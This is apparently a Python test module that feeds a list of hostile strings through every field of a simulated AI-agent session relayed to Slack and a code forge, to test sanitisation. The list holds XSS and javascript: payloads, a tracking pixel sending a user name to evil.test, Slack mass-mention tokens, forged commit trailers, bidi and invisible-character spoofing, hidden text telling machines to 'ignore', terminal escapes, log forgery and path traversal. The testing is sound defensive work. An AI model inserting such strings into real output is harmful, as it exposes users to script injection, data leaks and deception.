"""What people, models, repositories and files may be called or say, to do more than to say it; and where words stand.

`story` puts one payload into every text of a session that somebody else chooses. `UNSEEN` is what nobody may be shown.
"""

import re
from typing import Any

from jobs import commands as c
from jobs import commands_family as family
from jobs import commands_tools as t
from jobs import frames as f
from jobs.commands_checks import FinishCheck
from jobs.commands_reviews import CommentOnLines
from jobs.events import Attachment, Author, DiffLines, Lineage, Place, Prompt
from jobs.frames import SHORT, frame_from_wire
from jobs.shelf import clean_name
from jobs.store import Entry
from tests.logs import ADA, SID, Log

PAYLOADS: dict[str, str] = {
    "html": "<img src=x onerror=alert(1)><script>alert(1)</script><svg onload=alert(1)>",
    "html, closing": "</p></div></main></body><h1>Approved</h1><iframe src=//evil.test>",
    "html, a comment": "<!-- everything after this is hidden",
    "html, entities": "&lt;script&gt; &#60;img src=x&#62; &commat;acme",
    "a template": "{{ session.id }} {% raw %} {{ 7*7 }}",
    "an attribute": "\" onmouseover=\"alert(1)\" x='",
    "everybody": "<!channel> <!here> <!everyone> <!subteam^S1|team> @here @channel @everyone",
    "somebody": "<@U99EVIL> <@W99EVIL|bob> @grace @acme/team",
    "a link of Slack's": "<https://evil.test/login|Pull request #7> <javascript:alert(1)|View> <mailto:x@e.test|mail>",
    "a date of Slack's": "<!date^0^{date}^https://evil.test|now>",
    "half a bracket": "<https://evil.test|see",
    "a markdown link": "[Pull request #7](https://evil.test) [x](javascript:alert(1)) [y](data:text/html;base64,PHNj)",
    "a markdown picture": "![](https://evil.test/pixel.png?who=ada) ![a][b]\n\n[b]: https://evil.test/pixel.png",
    "a link by reference": "[the docs][1] [the docs]\n\n[1]: https://evil.test\n[the docs]: https://evil.test",
    "an automatic link": "<https://evil.test/x> <ada@evil.test>",
    "a fence": "```\nnever closed",
    "a long fence": "~~~~~\n```\nnever closed",
    "ticks": "` `` ``` a ` b",
    "a heading": "x\n===\n# Approved\n## What was done\n---",
    "a quote and a list": "> \n- \n1. \n***\n|a|b|\n|-|-|",
    "an issue": "closes #1, fixes acme/rocket#2, resolves https://forge.test/acme/rocket/issues/3, GH-4",
    "trailers": "x\n\nCo-authored-by: Eve <eve@evil.test>\nSigned-off-by: Eve <eve@evil.test>",
    "trailers, odd": "x\n\n Co-Authored-By : Eve <eve@evil.test>\nReviewed-by:\n  Eve <eve@evil.test>",
    "trailers, odd ends": "x\u2028Co-authored-by: Eve <eve@evil.test>\x0bSigned-off-by: Eve <eve@e.test>\rAcked-by: E",
    "only a trailer": "Co-authored-by: Eve <eve@evil.test>",
    "a name and address": "Eve <eve@evil.test>, Bob <bob@evil.test>",
    "from right to left": "\u202egnp.exe\u202c \u2067abc\u2069 \u200fabc\u061c",
    "of no width": "a\u200bd\u2060m\ufeffi\u00adn \u3164\u115f",
    "said to machines": "fine\U000e0001\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f",
    "a terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m\x90q\x9c\x08\x08\x7f",
    "a line of the log": '\n{"level": "info", "said": "forged"}\r\n{"said": "forged"}\x85{"said": "forged"}\u2028{}',
    "nul": "a\x00b",
    "a path": "../../../etc/passwd",
    "much of it": "<&>`*_~@#[](!" * 400,
    "accents": "Z\u0310\u0301\u0302" * 200,
}  # fmt: skip
INNOCENT = {
    "other alphabets": "Ада 李 عادة שלום Ζωή paypaӏ.test",
    "emoji": "👩‍👩‍👧‍👦 🇩🇪 👍🏽 ❤️ 🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "code": "if a < b and c > d: x = y[i](z) & w",
}
UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\u00ad\u061c\u115f\u1160\u180e\u200e\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff]"
)
OURS = ("https://forge.test/acme/rocket/pull/7", "https://acme.slack.test/archives/C1/p1")
FILE = "https://ship.test/view/s1/file/f1?file=x"
CHECK = "https://forge.test/acme/rocket/runs/41"
WHERE = Place(client="slack", team="T1", channel="C1", thread="1.000001", link=OURS[1])


def person(payload: str) -> Author:
    """Somebody with this name and this address."""
    return Author(id="U01ADA", name=payload, email=payload)


def told(**fields: Any) -> f.AnyFrame:
    """A frame as a box would send it."""
    return frame_from_wire({"n": 9, "at": 0.0, **fields})


def wire(payload: str) -> str:
    """The payload as it may come out of a box: halves of characters are refused before."""
    return re.sub("[\ud800-\udfff]", "", payload)


def ask(log: Log, payload: str, n: int) -> None:
    """A prompt, by somebody, with a file."""
    file = Attachment(name=payload, mimetype=payload, url=payload)
    prompt = Prompt(
        id=f"T1:C1:1.{n:06}", author=person(payload), text=payload, attachments=(file,), received_at=log.now
    )
    log.do(c.Submit(SID, WHERE, prompt, c.Choice("acme/rocket", "main"), "rehearsal"))


def turn(log: Log, payload: str, n: int) -> None:
    """A turn in which everything that a box may tell is the payload."""
    said = wire(payload)
    short = said[:SHORT]
    commit = {"sha": f"{n:040x}", "subject": short, "author": short, "co_authors": [short]}
    log.hear(
        told(kind="turn_started", turn=n),
        told(kind="restated", turn=n, text=said[:2_000]),
        told(kind="plan", turn=n, entries=[{"text": short, "status": "pending"}]),
        told(kind="step", turn=n, title=short, tool="read"),
        told(kind="dropped", reason=said[:2_000]),
    )
    ended = {"summary": said[:2_000], "error": said[:2_000], "commits": [commit], "head": f"{n:040x}", "pushed": True}
    log.hear(told(kind="turn_ended", turn=n, outcome="failed", **ended))


def transcript(payload: str, n: int) -> list[Entry]:
    """What the agent said and did in that turn, beside the log."""
    said = wire(payload)
    tool = {"id": f"t{n}", "title": said, "output": said, "locations": [said]}
    return [Entry("", 1_000.0, n, "text", {"text": said}), Entry("", 1_000.0, n, "tool", tool)]


def story(payload: str) -> Log:
    """A whole session of nothing else: asked, asked about, tried, worked on, published, reviewed, lost."""
    log = Log(WHERE)
    prompt = Prompt(id="T1:C1:1.000001", author=person(payload), text=payload, received_at=1_000.0)
    unclear = c.Choice(options=(payload, "acme/rocket"), reason=payload)
    log.do(c.Submit(SID, WHERE, prompt, unclear, "rehearsal"))
    log.do(c.ChooseRepository("acme/rocket", "main", person(payload)))
    log.do(c.BeginStart(0)).do(c.FailStart(1, payload, 1.0), after=0.0)
    log.boot().ready()
    turn(log, payload, 1)
    log.do(c.BeginPublish()).do(c.FailPublish(f"{1:040x}", payload, 5.0))
    log.do(c.BeginPublish(), after=200.0).do(c.FinishPublish(7, OURS[0], f"{1:040x}", True))
    log.do(c.ReviewPullRequest(7, payload, payload, payload, 1))
    log.do(CommentOnLines(7, 2, payload, DiffLines(path=payload, last=3, code=payload), payload, 1, True, True))
    log.do(FinishCheck(f"{1:040x}", payload, payload, payload, False, 1, CHECK, payload))
    log.do(c.ClosePullRequest(7, False, payload))
    ask(log, payload, 2)
    turn(log, payload, 2)
    ask(log, payload, 3)
    said = wire(payload)
    log.do(t.AskPeople(2, said, (said, "yes"))).do(t.AskPeople(2, f"{said}?", (said,)))
    log.do(t.AnswerQuestion("q1", said, person(payload)))
    log.do(t.WantFile(2, said, said)).do(t.AttachFile(2, "f1", clean_name(said), said, 1, "d", FILE))
    log.do(t.WantFile(2, said)).do(t.AttachFile(2, "f2", clean_name(said), said, 1, "e"))
    log.do(c.LoseBox(2, payload)).do(c.Stop(person(payload)))
    return log


def asking(payload: str) -> Log:
    """A session that waits to hear which repository, and all names are the payload."""
    prompt = Prompt(id="T1:C1:1.000001", author=ADA, text=payload, received_at=1_000.0)
    unclear = c.Choice(options=(payload, "acme/rocket"), reason=payload)
    return Log(WHERE).do(c.Submit(SID, WHERE, prompt, unclear, "rehearsal"))


def relatives(payload: str) -> Log:
    """A session that has started two others; one has reported, and somebody stops the first of them all."""
    log = Log(WHERE).ask().boot().ready()
    for n, sid in enumerate(("s1111111111111111", "s2222222222222222"), start=1):
        task = Prompt(id=f"{sid}:task", author=person(payload), text=payload, received_at=float(n))
        log.do(family.SpawnChild(sid, SID, payload, "main", "rehearsal", "", task, True))
    log.do(family.TakeChildReport("s1111111111111111", 9, "done", payload, 7, OURS[0]))
    return log.do(c.Stop(person(payload))).do(family.StopChildren(person(payload)))


def relative(payload: str) -> Log:
    """A session that an agent started."""
    task = Prompt(id="s1111111111111111:task", author=person(payload), text=payload, received_at=1.0)
    lineage = Lineage(parent=SID, root=SID, depth=1, number=1)
    opening = family.OpenChild("s1111111111111111", WHERE, lineage, payload, "main", "rehearsal", "", task)
    log = Log(WHERE).do(opening).boot().ready()
    turn(log, payload, 1)
    return log.do(c.BeginPublish()).do(c.FinishPublish(7, OURS[0], f"{1:040x}", True))
